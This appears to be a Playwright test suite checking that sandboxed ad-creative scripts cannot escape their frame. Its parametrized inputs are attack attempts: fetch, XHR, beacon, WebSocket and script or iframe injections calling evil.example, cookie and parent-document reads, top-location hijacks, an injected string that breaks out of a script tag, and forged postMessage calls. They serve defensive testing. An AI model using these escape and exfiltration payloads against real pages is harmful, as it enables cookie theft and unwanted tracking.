"""Isolated scripts: what they ask for happens, and nothing of the ad or the page is in their reach."""

import re
from dataclasses import replace

import pytest
from playwright.sync_api import expect

from creative.page import build_page
from tests.browser.ad_page import BYE, CLICKS, HELLO, ONE, open_ad
from tests.creative.tiny import make_tiny

pytestmark = pytest.mark.browser


def _open(tmp_path, context, code, *, tag="", **more):
    script = {"id": "s", "type": "script", "code": code, "isolated": True}
    hello = {**HELLO, "tracking": [{"tag": tag}]} if tag else HELLO
    creative = make_tiny(
        tmp_path, [hello, script, BYE], ["hello s", "s bye"], variables={"n": 1, "who": "x"}
    )
    ad = open_ad(context, build_page(creative, "300x250", CLICKS), **more)
    expect(ad.by_id("bye")).to_be_visible()
    return ad


def _logs(ad):
    return [e["text"] for e in ad.events() if e["kind"] == 12]


def test_what_it_asks_for_happens_as_if_it_had_run_here(tmp_path, ad_context):
    code = (
        "FLOW.set('n', FLOW.get('n') + 1); console.log(FLOW.get('n'), FLOW.component);"
        "ANALYTICS.sendMetric('seen', true); new Image().src = 'https://t.example/i?' + FLOW.get('who')"
    )
    ad = _open(tmp_path, ad_context, code)

    assert _logs(ad) == ["2 s"]
    assert [e["text"] for e in ad.events() if e["kind"] == 5] == ["seen"]
    assert ad.asked == ["https://t.example/i?x"]
    assert ad.errors == []
    assert ad.page.locator("iframe").count() == 0


# One way out of the frame each; what it finds, or that it may not.
REACHES = {
    "parent.document": "parent.document.title",
    "top.document": "top.document.body.innerHTML",
    "top.location": "String(top.location.href)",
    "cookies": "document.cookie",
    "storage": "String(localStorage.length)",
    "session storage": "String(sessionStorage.length)",
    "the ad's variables": "String(parent.flowtagEvents)",
    "the frame around": "String(frameElement && frameElement.id)",
    "frames beside it": "String(parent.frames.length && parent.frames[0].document.cookie)",
    "eval": "eval('1 + 1')",
    "Function": "Function('return 7')()",
    "a popup": "String(open('https://evil.example/popup'))",
}


@pytest.mark.parametrize("reach", REACHES.values(), ids=REACHES.keys())
def test_nothing_around_it_is_in_its_reach(tmp_path, ad_context, reach):
    ad_context.add_cookies([{"name": "secret", "value": "1", "url": "https://ad.example/"}])
    code = (
        f"var found; try {{ found = {reach} }} catch (e) {{ found = 'refused' }} console.log(found)"
    )
    ad = _open(tmp_path, ad_context, code, init="try { localStorage.x = 1 } catch {}")

    assert _logs(ad)[0] in ("refused", "null")
    assert ad.asked == []


@pytest.mark.parametrize(
    "code",
    [
        "window.fetch('https://evil.example/fetch')",
        "var x = new XMLHttpRequest(); x.open('GET', 'https://evil.example/xhr'); x.send()",
        "window.navigator.sendBeacon('https://evil.example/beacon')",
        "var i = new window.Image(); i.src = 'https://evil.example/img'",
        "document.write('<img src=https://evil.example/write>')",
        "var s = document.createElement('script'); s.src = 'https://evil.example/s.js'; document.head.append(s)",
        "var s = document.createElement('script'); s.textContent = 'parent.hit = 1'; document.head.append(s)",
        "var f = document.createElement('iframe'); f.src = 'https://evil.example/f'; document.body.append(f)",
        "var f = document.createElement('iframe'); f.srcdoc = '<img src=https://evil.example/d>'; document.body.append(f)",
        "location.href = 'https://evil.example/go'",
        "document.head.innerHTML += '<meta http-equiv=refresh content=\"0;url=https://evil.example/m\">'",
        "var l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/c'; document.head.append(l)",
        "top.location = 'https://evil.example/top'",
        "var a = document.createElement('a'); a.href = 'https://evil.example/a'; a.target = '_blank'; document.body.append(a); a.click()",
        "new Worker('data:text/javascript,fetch(\\'https://evil.example/worker\\')')",
        "new WebSocket('wss://evil.example/w')",
        "new EventSource('https://evil.example/e')",
    ],
)
def test_it_asks_for_nothing_by_itself(tmp_path, ad_context, code):
    ad = _open(tmp_path, ad_context, f"try {{ {code} }} catch (e) {{}} console.log('done')")
    ad.page.wait_for_timeout(100)

    assert _logs(ad) in (["done"], [])  # a frame that tries to leave may lose its answer
    assert ad.asked == []
    assert ad.page.url.startswith("https://ad.example/")
    assert len(ad_context.pages) == 1


def test_text_that_ends_a_script_is_only_text(tmp_path, ad_context):
    """A linter refuses such a code; the page holds it all the same, as data."""
    creative = make_tiny(
        tmp_path,
        [HELLO, {"id": "s", "type": "script", "code": "", "isolated": True}, BYE],
        ["hello s", "s bye"],
    )
    code = "console.log('</script><img src=x onerror=top.hit=1>', /<!--/.test('x'), '<!--<script>')"
    hello, script, bye = creative.flow.components
    ended = (hello, script.model_copy(update={"code": code}), bye)
    flow = creative.flow.model_copy(update={"components": ended})

    ad = open_ad(ad_context, build_page(replace(creative, flow=flow), "300x250", CLICKS))
    expect(ad.by_id("bye")).to_be_visible()

    assert _logs(ad) == ["</script><img src=x onerror=top.hit=1> false <!--<script>"]
    assert (ad.page.evaluate("window.hit"), ad.errors) == (None, [])


def test_a_script_that_throws_or_asks_for_too_much_says_so(tmp_path, ad_context):
    ad = _open(tmp_path, ad_context, "console.log('first'); null.x")

    assert _logs(ad) == ["first"]
    assert [e["text"] for e in ad.events() if e["kind"] == 13] == ["TypeError"]


def test_a_frame_that_never_answers_is_left_after_a_second(tmp_path, ad_context):
    creative = make_tiny(
        tmp_path,
        [HELLO, {"id": "s", "type": "script", "code": "1", "isolated": True}, BYE],
        ["hello s", "s bye"],
    )
    page = build_page(creative, "300x250", CLICKS)
    deaf = "if (parent !== window) window.addEventListener('message', (e) => e.stopImmediatePropagation(), true);"
    ad = open_ad(ad_context, page, init=deaf)

    expect(ad.by_id("bye")).to_be_visible()

    assert [(e["a"], e["text"]) for e in ad.events() if e["kind"] == 13] == [(7, "")]
    expect(ad.page.locator("iframe")).to_have_count(0)


def test_the_policy_allows_these_texts_and_no_others(tmp_path, ad_context):
    ad = _open(tmp_path, ad_context, "console.log('x')")
    content = ad.page.locator("meta[http-equiv]").get_attribute("content") or ""
    rules = dict(rule.split(" ", 1) for rule in content.split("; "))

    assert re.fullmatch(r"('sha256-[\w+/=]{44}' ?){3}", rules["script-src"])
    assert "frame-src" not in rules
    assert rules["default-src"] == "'none'"


def test_it_works_beside_a_tracking_text_that_opens_the_policy(tmp_path, ad_context):
    tag = "<script>new Image().src='https://t.example/s'</script>"
    ad = _open(tmp_path, ad_context, "console.log('x')", tag=tag)

    assert _logs(ad) == ["x"]


def test_a_message_from_elsewhere_is_no_answer(tmp_path, ad_context):
    creative = make_tiny(
        tmp_path,
        [ONE, {"id": "s", "type": "script", "code": "console.log('mine')", "isolated": True}, BYE],
        ["one s", "s bye"],
    )
    forged = "window.postMessage([['goTo', 'one'], ['log', 'forged']], '*');"
    ad = open_ad(ad_context, build_page(creative, "300x250", CLICKS))
    expect(ad.by_id("one")).to_be_visible()
    ad.by_id("one").evaluate(f"e => {{ e.click(); {forged} }}")

    expect(ad.by_id("bye")).to_be_visible()
    assert _logs(ad) == ["mine"]
